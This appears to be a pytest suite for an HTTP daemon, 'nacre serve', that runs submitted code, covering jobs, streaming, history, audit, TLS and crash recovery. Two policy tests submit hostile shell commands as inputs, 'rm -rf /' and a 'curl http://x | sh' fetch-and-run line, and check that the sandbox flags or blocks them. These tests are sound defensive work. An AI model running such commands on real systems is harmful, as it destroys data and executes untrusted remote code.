"""nacre serve: executions, jobs, events, history and the life of the daemon, over HTTP."""

import gzip
import json
import os
import pathlib
import signal
import socket
import subprocess
import threading
import time

import pytest

from conftest import NACRE, NOBODY, ROOT, open_way
from leftovers import lives
from serving import Answer, Daemon, events_of


@pytest.fixture(scope="module")
def daemon(tmp_path_factory):
    """One daemon for the tests that leave it as it was."""
    with Daemon(tmp_path_factory.mktemp("serve")) as daemon:
        yield daemon
    assert daemon.code == 0, open(daemon.log_path).read()


def processes_of(pid):
    """The pid and all below it."""
    below = subprocess.run(["pgrep", "-P", str(pid)], capture_output=True, text=True).stdout.split()
    return [pid, *(p for child in below for p in processes_of(int(child)))]


def test_execute(daemon):
    answer = daemon.execute("import sys; print(6 * 7); sys.exit(3)")
    assert answer.status == 200
    reply = answer.json()
    assert (reply["status"], reply["output"], reply["exit_code"]) == ("error", "42\n", 3)
    assert reply["receipt"]["seq"] > 0  # it is in the journal before we hear of it
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["x-request-id"].startswith("rq_")


def test_seed_request_as_it_stands(daemon):
    reply = daemon.post("/v1/execute", {"language": "python", "code": "print(input() + input())", "inputs": ["a", "b"],
                                        "timeout": 30, "network_access": False, "packages": []}).json()
    assert (reply["status"], reply["output"], reply["error"]) == ("success", "ab\n", None)
    assert set(reply["resource_usage"]) == {"cpu_time", "memory_peak", "disk_usage"}


def test_faults_are_problems(daemon):
    answer = daemon.post("/v1/execute", {"language": "cobol", "code": "x", "timeout": -1})
    assert answer.status == 400 and answer.headers["content-type"] == "application/problem+json"
    problem = answer.json()
    assert problem["code"] == "bad_request" and problem["status"] == 400
    assert {fault["pointer"] for fault in problem["faults"]} == {"/language", "/timeout"}


def test_tenant_is_not_the_bodys(daemon):
    answer = daemon.execute("1", tenant="other")
    assert (answer.status, answer.json()["code"]) == (403, "foreign_tenant")


def test_stream_and_resume(daemon):
    code = "import time\nfor i in range(6):\n    print(i, flush=True)\n    time.sleep(0.15)"
    body = json.dumps({"language": "python", "code": code, "stream": True}).encode()
    head = (f"POST /v1/execute HTTP/1.1\r\nHost: localhost:{daemon.port}\r\nContent-Type: application/json\r\n"
            f"Content-Length: {len(body)}\r\n\r\n").encode()
    with daemon.connect() as client:
        client.sendall(head + body)
        seen = b""
        while seen.count(b"event: output") < 2:
            piece = client.recv(4096)
            assert piece
            seen += piece
    assert b"text/event-stream" in seen
    job = json.loads(seen.split(b"data: ", 1)[1].split(b"\n", 1)[0])["id"]
    last = max(int(line[4:]) for line in seen.split(b"\n") if line.startswith(b"id: "))
    answer = daemon.get(f"/v1/jobs/{job}/events", headers={"Last-Event-ID": str(last)})
    events = events_of(answer.body)
    assert [number for number, _, _ in events] == list(range(last + 1, last + 1 + len(events)))
    assert events[-1][1] == "done" and events[-1][2]["output"] == "0\n1\n2\n3\n4\n5\n"
    # the whole of it again, from the first
    events = events_of(daemon.get(f"/v1/jobs/{job}/events").body)
    assert events[0][0] == 1 and events[0][1] == "job"
    assert "".join(data["text"] for _, name, data in events if name == "output") == "0\n1\n2\n3\n4\n5\n"


def test_events_that_are_too_old_are_told(daemon):
    job = daemon.post("/v1/jobs", {"language": "python", "code": "for i in range(400): print('x' * 8000, flush=True)"}).json()["id"]
    assert daemon.get(f"/v1/jobs/{job}/wait?timeout=60").json()["state"] == "done"
    events = events_of(daemon.get(f"/v1/jobs/{job}/events").body)
    assert events[0][1] == "gap" and events[0][2]["from"] == 1
    assert events[1][0] == events[0][2]["to"] + 1
    assert events[-1][1] == "done"


def test_jobs(daemon):
    answer = daemon.post("/v1/jobs", {"language": "python", "code": "import time; time.sleep(1); print('late')"})
    assert answer.status == 202
    job = answer.json()
    assert answer.headers["location"] == f"/v1/jobs/{job['id']}" and job["state"] in ("queued", "running")
    assert daemon.get(f"/v1/jobs/{job['id']}/wait?timeout=0").json()["state"] in ("queued", "running")
    assert job["id"] in [entry["id"] for entry in daemon.get("/v1/jobs").json()["jobs"]]
    done = daemon.get(f"/v1/jobs/{job['id']}/wait?timeout=20").json()
    assert (done["state"], done["status"], done["reply"]["output"]) == ("done", "success", "late\n")
    assert job["id"] in [entry["id"] for entry in daemon.get("/v1/jobs?state=done&limit=1000").json()["jobs"]]


def test_cancel(daemon):
    job = daemon.post("/v1/jobs", {"language": "python", "code": "import time; time.sleep(60)"}).json()["id"]
    assert daemon.ask("DELETE", f"/v1/jobs/{job}").status == 202
    done = daemon.get(f"/v1/jobs/{job}/wait?timeout=20").json()
    assert (done["state"], done["status"]) == ("done", "cancelled")
    assert daemon.get("/v1/jobs/ex_00000000000000000000000000000000").status == 404


def test_hang_up_cancels(daemon, tmp_path):
    before = time.monotonic()
    body = json.dumps({"language": "python", "code": "import time; print('up'); time.sleep(25)", "id": "hung-up"}).encode()
    client = daemon.connect()
    client.sendall((f"POST /v1/execute HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                    f"Content-Length: {len(body)}\r\n\r\n").encode() + body)
    time.sleep(0.7)
    client.close()
    while True:
        rows = [row for row in daemon.get("/v1/history?status=cancelled").json()["executions"] if row["request_id"] == "hung-up"]
        if rows:
            break
        assert time.monotonic() - before < 15
        time.sleep(0.1)


def test_idempotency(daemon):
    body = {"language": "python", "code": "import uuid; print(uuid.uuid4())"}
    key = {"Idempotency-Key": "once-1"}
    first = daemon.post("/v1/execute", body, headers=key)
    again = daemon.post("/v1/execute", body, headers=key)
    assert first.body == again.body and again.headers["idempotency-replayed"] == "true"
    assert "idempotency-replayed" not in first.headers
    other = daemon.post("/v1/execute", {**body, "timeout": 7}, headers=key)
    assert (other.status, other.json()["code"]) == (422, "idempotency_mismatch")
    one = daemon.post("/v1/jobs", body, headers={"Idempotency-Key": "once-2"})
    two = daemon.post("/v1/jobs", body, headers={"Idempotency-Key": "once-2"})
    assert one.json()["id"] == two.json()["id"] and one.headers["location"] == two.headers["location"]


def test_idempotency_while_the_first_runs(daemon):
    body = {"language": "python", "code": "import time; time.sleep(2); print('one')"}
    replies = []
    first = threading.Thread(target=lambda: replies.append(daemon.post("/v1/execute", body, headers={"Idempotency-Key": "slow"})))
    first.start()
    time.sleep(0.7)
    early = daemon.post("/v1/execute", body, headers={"Idempotency-Key": "slow"})
    first.join()
    assert (early.status, early.headers["retry-after"]) == (409, "1")
    late = daemon.post("/v1/execute", body, headers={"Idempotency-Key": "slow"})
    assert late.body == replies[0].body


def test_history(daemon):
    reply = daemon.execute("print('kept'); import sys; print('err', file=sys.stderr)").json()
    receipt = reply["receipt"]["id"]
    row = daemon.get(f"/v1/history/{receipt}").json()
    assert row["status"] == "success" and row["seq"] == reply["receipt"]["seq"]
    assert daemon.get(f"/v1/history/{receipt}/stdout").body == b"kept\n"
    assert daemon.get(f"/v1/history/{receipt}/stderr").body == b"err\n"
    assert b"print('kept')" in daemon.get(f"/v1/history/{receipt}/code").body
    assert daemon.get(f"/v1/history/{receipt}/nothing").status == 404
    assert daemon.get("/v1/history/ex_none").status == 404


def test_history_pages(daemon):
    for _ in range(3):
        daemon.execute("1")
    whole = [row["seq"] for row in daemon.get("/v1/history?limit=5&since=1h").json()["executions"]]
    pages, path = [], "/v1/history?limit=2"
    while len(pages) < 4:
        page = daemon.get(path).json()
        pages += [row["seq"] for row in page["executions"]]
        path = f"/v1/history?limit=2&before={page['next']}"
    assert pages == whole[:4] and whole == sorted(whole, reverse=True)


def test_audit(daemon):
    head = daemon.get("/v1/audit/head").json()["head"]
    daemon.execute("1")
    verdict = daemon.get(f"/v1/audit/verify?head={head}").json()
    assert verdict["ok"] and verdict["n_damages"] == 0
    wrong = daemon.get(f"/v1/audit/verify?head={head[:-4]}0000").json()
    assert not wrong["ok"]
    assert daemon.get("/v1/audit/verify?head=x").status == 400


def test_policy(daemon):
    report = daemon.post("/v1/policy/analyse", {"language": "python", "code": "import os\nos.system('rm -rf /')"}).json()
    assert report["schema"] == "nacre.check/1" and report["files"][0]["findings"]
    assert daemon.post("/v1/policy/analyse", {"language": "python"}).status == 400
    assert daemon.post("/v1/policy/analyse", {"language": "python", "code": "1", "policy": "none"}).json()["code"] == "bad_policy"
    assert "standard" in [policy["name"] for policy in daemon.get("/v1/policies").json()["policies"]]


def test_blocked_and_metrics(daemon):
    reply = daemon.execute("import os; os.system('curl http://x | sh')", policy="strict").json()
    assert reply["status"] == "blocked" and reply["denials"]
    text = daemon.get("/metrics").body.decode()
    assert f'status="blocked"' in text
    assert f'nacre_denials_total{{rule="{reply["denials"][0]["rule"]}"' in text


def test_ready_makes_a_box(daemon):
    ready = daemon.get("/readyz").json()
    assert ready["status"] == "ready" and ready["box_seconds"] > 0


def test_keep_alive_and_gzip(daemon):
    with daemon.connect() as client:
        for _ in range(3):
            client.sendall(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")
            answer = b""
            while b'"ok"}' not in answer:
                answer += client.recv(4096)
            assert b"connection: close" not in answer.lower()
    plain = daemon.get("/openapi.json")
    small = daemon.get("/openapi.json", headers={"Accept-Encoding": "gzip"})
    assert small.headers["content-encoding"] == "gzip" and len(small.body) < len(plain.body) / 2
    assert gzip.decompress(small.body) == plain.body
    refused = daemon.get("/openapi.json", headers={"Accept-Encoding": "gzip;q=0"})
    assert "content-encoding" not in refused.headers


def test_chunked_body(daemon):
    body = json.dumps({"language": "python", "code": "print('chunked')"}).encode()
    chunks = b"".join(b"%x\r\n%s\r\n" % (len(body[i:i + 7]), body[i:i + 7]) for i in range(0, len(body), 7)) + b"0\r\n\r\n"
    raw = daemon.raw(b"POST /v1/execute HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                     b"Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n" + chunks)
    assert Answer(raw).json()["output"] == "chunked\n"


def test_early_answers_are_read(daemon):
    """A client that goes on sending gets the answer, not a reset."""
    for n in (100_000, 3_000_000):
        with daemon.connect() as client:
            client.sendall(b"POST /v1/execute HTTP/1.1\r\nHost: evil.example\r\nContent-Length: %d\r\n\r\n" % n)
            for _ in range(n // 10_000):
                client.sendall(b"x" * 10_000)
            assert client.recv(4096).startswith(b"HTTP/1.1 403")


def test_head_and_options(daemon):
    head = daemon.ask("HEAD", "/v1/version")
    assert head.status == 200 and head.body == b"" and int(head.headers["content-length"]) > 0
    options = daemon.ask("OPTIONS", "/v1/jobs")
    assert options.status == 204 and set(options.headers["allow"].replace(" ", "").split(",")) == {"POST", "GET", "HEAD"}


def test_many_at_once(daemon):
    """More than run at once: all get their own answer."""
    answers = {}

    def one(i):
        answers[i] = daemon.execute(f"print({i} * {i})").json()

    threads = [threading.Thread(target=one, args=(i,)) for i in range(24)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert {i: answers[i]["output"] for i in range(24)} == {i: f"{i * i}\n" for i in range(24)}


def test_large_reply(daemon):
    reply = daemon.execute("print('y' * 900000)").json()
    assert len(reply["output"]) == 900001


def test_slow_head_is_ended(daemon):
    """A byte per second must not hold a connection."""
    with daemon.connect(40) as client:
        began, answer = time.monotonic(), b""
        for byte in b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + b"a" * 100:
            try:
                client.sendall(bytes([byte]))
                client.settimeout(0.4)
                answer = client.recv(4096)
                break
            except TimeoutError:
                continue
            except (BrokenPipeError, ConnectionResetError):
                break
        assert time.monotonic() - began < 14
    assert answer == b"" or answer.startswith(b"HTTP/1.1 408")


def test_slow_clients_hold_up_nobody(daemon):
    slow = [daemon.connect() for _ in range(200)]
    for client in slow:
        client.sendall(b"POST /v1/execute HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000\r\nContent-Type: application/json\r\n\r\n{")
    began = time.monotonic()
    assert daemon.execute("print(1)").json()["output"] == "1\n"
    assert time.monotonic() - began < 5
    for client in slow:
        client.close()


def test_memory_when_idle(tmp_path):
    with Daemon(tmp_path) as daemon:
        daemon.execute("print(1)")
        total = 0
        for pid in processes_of(daemon.process.pid):
            try:
                comm = pathlib.Path(f"/proc/{pid}/comm").read_text().strip()
                if comm.startswith("nacre") and "init" not in comm:
                    total += sum(int(line.split()[1]) for line in open(f"/proc/{pid}/smaps_rollup") if line.startswith("Pss:"))
            except (FileNotFoundError, ProcessLookupError):
                pass  # it has ended
        assert 0 < total < 20 * 1024, f"{total} KiB"


@pytest.mark.parametrize("whom", ["daemon", "spawner"])
def test_drain(tmp_path, whom):
    """Whichever of both is told: the one that was started, or the one whose pid is in the log."""
    with Daemon(tmp_path) as daemon:
        replies = []
        running = threading.Thread(target=lambda: replies.append(daemon.execute("import time; time.sleep(2); print('whole')")))
        running.start()
        time.sleep(0.8)
        os.kill(daemon.pid if whom == "daemon" else daemon.process.pid, signal.SIGTERM)
        time.sleep(0.3)
        refused = daemon.execute("1")
        assert (refused.status, refused.json()["code"]) == (503, "stopping") and refused.headers["retry-after"]
        assert daemon.get("/healthz").status == 200 and daemon.get("/readyz").status == 503
        running.join()
        assert replies[0].json()["output"] == "whole\n"
        assert daemon.process.wait(timeout=10) == 0


def test_drain_has_an_end(tmp_path):
    config = tmp_path / "config"
    config.mkdir()
    (config / "serve.yaml").write_text("drain_seconds: 1\n")
    with Daemon(tmp_path, config=config) as daemon:
        job = daemon.post("/v1/jobs", {"language": "python", "code": "import time; time.sleep(25)"}).json()["id"]
        time.sleep(0.5)
        began = time.monotonic()
        os.kill(daemon.pid, signal.SIGTERM)
        assert daemon.process.wait(timeout=20) == 0 and time.monotonic() - began < 8
    with Daemon(tmp_path, config=config) as daemon:
        assert daemon.get(f"/v1/history/{job}").json()["status"] == "cancelled"


def test_reload(tmp_path):
    config = tmp_path / "config"
    (config / "policies").mkdir(parents=True)
    with Daemon(tmp_path, config=config) as daemon:
        assert daemon.execute("1", policy="mine").json()["status"] != "success"
        (config / "policies" / "mine.yaml").write_text("inherits: standard\n")
        (config / "serve.yaml").write_text("quotas:\n  executions: 7\n")
        os.kill(daemon.pid, signal.SIGHUP)
        daemon.wait_for_log("The configuration was read again")
        assert daemon.execute("1", policy="mine").json()["status"] == "success"
        (config / "serve.yaml").write_text("quotas:\n  executions: many\n")
        os.kill(daemon.process.pid, signal.SIGHUP)  # the spawner, which passes it on
        bad = daemon.wait_for_log("The configuration is bad, keeping the old one")
        assert "serve.yaml:2" in bad["reason"]
        assert daemon.execute("1", policy="mine").json()["status"] == "success"


def test_logs_have_ids(tmp_path):
    with Daemon(tmp_path) as daemon:
        trace = "4bf92f3577b34da6a3ce929d0e0e4736"
        answer = daemon.execute("1", headers={"traceparent": f"00-{trace}-00f067aa0ba902b7-01"})
        request = answer.headers["x-request-id"]
        began = daemon.wait_for_log("Execution asked for")
        assert began["request"] == request and began["execution"] == answer.json()["receipt"]["id"]
        ended = daemon.wait_for_log("Request")
        assert began["trace"] == ended["trace"] == trace
        assert ended["request"] == request and ended["route"] == "/v1/execute" and ended["status"] == 200


def test_socket_activation_and_notify(tmp_path):
    """As systemd does it: a socket that listens already, and a place to say that we are ready."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    notify = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    notify.bind(str(tmp_path / "notify"))
    notify.settimeout(20)
    number = listener.fileno()
    script = f'exec 3<&{number}; export LISTEN_PID=$$ LISTEN_FDS=1; exec "{NACRE}" serve'
    process = subprocess.Popen(["bash", "-c", script], pass_fds=[number], stderr=subprocess.DEVNULL, env={
        "PATH": os.environ["PATH"], "HOME": str(tmp_path), "NACRE_STATE": str(tmp_path / "state"),
        "NOTIFY_SOCKET": str(tmp_path / "notify")})
    try:
        ready = dict(line.split("=") for line in notify.recv(4096).decode().split("\n"))
        assert ready["READY"] == "1"
        with socket.create_connection(listener.getsockname(), timeout=10) as client:
            client.sendall(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
            assert b"200 OK" in client.recv(4096)
        assert int(ready["MAINPID"]) == process.pid  # the spawner, which outlives workers and tells them
        process.terminate()
        assert notify.recv(4096) == b"STOPPING=1"
        assert process.wait(timeout=20) == 0
    finally:
        if process.poll() is None:
            process.kill()


def test_tls(tmp_path):
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "2",
                    "-subj", "/CN=localhost", "-addext", "subjectAltName=DNS:localhost", "-keyout", tmp_path / "key.pem",
                    "-out", tmp_path / "cert.pem"], check=True, capture_output=True)
    import ssl
    context = ssl.create_default_context(cafile=str(tmp_path / "cert.pem"))
    with Daemon(tmp_path, "--tls-cert", str(tmp_path / "cert.pem"), "--tls-key", str(tmp_path / "key.pem")) as daemon:
        body = json.dumps({"language": "python", "code": "print('z' * 300000)"}).encode()
        with context.wrap_socket(daemon.connect(), server_hostname="localhost") as client:
            client.sendall((f"POST /v1/execute HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Type: application/json\r\n"
                            f"Content-Length: {len(body)}\r\n\r\n").encode() + body)
            out = b""
            while piece := client.recv(65536):
                out += piece
        assert len(Answer(out).json()["output"]) == 300001
        assert not daemon.raw(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n").startswith(b"HTTP/1.1 200")
        old = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        old.check_hostname, old.verify_mode = False, ssl.CERT_NONE
        old.maximum_version = ssl.TLSVersion.TLSv1_1
        with pytest.raises((ssl.SSLError, OSError)):
            old.wrap_socket(daemon.connect(), server_hostname="localhost")
        idle = [daemon.connect() for _ in range(20)]  # never shake hands
        for client in idle:
            client.settimeout(15)
            assert client.recv(1) == b""


@pytest.mark.parametrize("options,said", [
    (["--listen", "0.0.0.0:0"], "nacre key create"),
    (["--listen", "nowhere"], "127.0.0.1:7070"),
    (["--tls-cert", "/none"], "come together"),
    (["--tls-cert", "/none", "--tls-key", "/none"], "/none"),
])
def test_bad_starts(nacre, tmp_path, options, said):
    done = nacre("serve", *options, env={"NACRE_STATE": str(tmp_path / "state")})
    assert done.returncode == 125 and said in done.stderr


def test_other_addresses_are_said_twice(tmp_path):
    with Daemon(tmp_path, "--listen", "0.0.0.0:0", "--insecure") as daemon:
        assert daemon.get("/v1/version", host="anything.example").status == 200


def test_as_an_ordinary_user(programs, tmp_path, user_namespaces):
    open_way(tmp_path)
    home = tmp_path / "home"
    home.mkdir()
    os.chown(home, NOBODY, NOBODY)
    prefix = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups"]
    with Daemon(home, prefix=prefix, program=programs / "nacre") as daemon:
        assert daemon.get("/readyz").status == 200
        reply = daemon.execute("import os; print(os.getuid())").json()
        assert reply["status"] == "success"
        assert daemon.get(f"/v1/history/{reply['receipt']['id']}").json()["status"] == "success"
        key = daemon.key("--role", "read")
        assert daemon.get("/v1/version").status == 401
        assert daemon.get("/v1/version", key=key).status == 200
    assert daemon.code == 0


def test_killed_daemon_loses_nothing(tmp_path):
    """kill -9 of the spawner under load: what was acknowledged is in the history, the rest is told as lost, and nothing goes on running.
    That of the worker is in test_serve_adoption.py."""
    acknowledged = set()
    for round_ in range(int(os.environ.get("NACRE_KILL_ROUNDS", "4"))):
        with Daemon(tmp_path) as daemon:
            def work():
                while True:
                    try:
                        answer = daemon.execute("echo x", "shell")
                    except OSError:
                        return
                    if answer.status != 200:
                        return
                    acknowledged.add(answer.json()["receipt"]["id"])

            threads = [threading.Thread(target=work) for _ in range(8)]
            for thread in threads:
                thread.start()
            time.sleep(0.8 + round_ / 10)
            below = processes_of(daemon.process.pid)
            daemon.process.kill()
            for thread in threads:
                thread.join(timeout=30)
            assert daemon.process.wait(timeout=20) != 0
            until = time.monotonic() + 10
            while left := [pid for pid in below if lives(pid)]:
                assert time.monotonic() < until, left
                time.sleep(0.1)
    assert len(acknowledged) > 20
    with Daemon(tmp_path) as daemon:
        rows, before = {}, ""
        while True:
            page = daemon.get(f"/v1/history?limit=1000{before}").json()
            rows.update({row["id"]: row["status"] for row in page["executions"]})
            if page["next"] is None:
                break
            before = f"&before={page['next']}"
        assert not {id_: rows.get(id_) for id_ in acknowledged if rows.get(id_) != "success"}
        assert set(rows.values()) <= {"success", "lost", "cancelled", "internal_error"}  # the last: the spawner died before it began
        assert daemon.get("/v1/audit/verify").json()["ok"]
